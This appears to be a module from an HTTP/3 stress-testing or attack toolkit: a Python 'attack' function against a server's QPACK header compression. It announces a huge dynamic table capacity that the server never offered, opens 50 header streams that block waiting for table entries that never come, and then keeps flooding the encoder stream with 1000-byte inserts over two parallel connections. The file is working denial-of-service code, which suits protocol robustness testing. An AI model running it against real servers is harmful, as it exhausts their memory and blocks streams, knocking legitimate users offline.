"""Entries for QPACK's table, which the server did not offer, and headers that wait for entries that never come (RFC 9204, 7)."""

from wire.http2 import integer
from wire.http3 import ENCODER, HEADERS, frame, http3, number


async def attack(target):
    capacity = integer(1 << 30, 5, 0x20)
    insert = integer(1, 5, 0x40) + b"x" + integer(1000, 7) + b"y" * 1000

    async def lane(_):
        async with http3(target, target.source(_)) as it:
            if it:
                encoder = it.stream(one_way=True)
                await it.send(encoder, number(ENCODER) + capacity)
                for _ in range(50):
                    # Required insert count 200 of a table without entries.
                    await it.send(it.stream(), frame(HEADERS, b"\xc8\0\x80"), end=True)
                while target.goes_on():
                    await it.send(encoder, insert * 50)

    await target.lanes(2, lane)
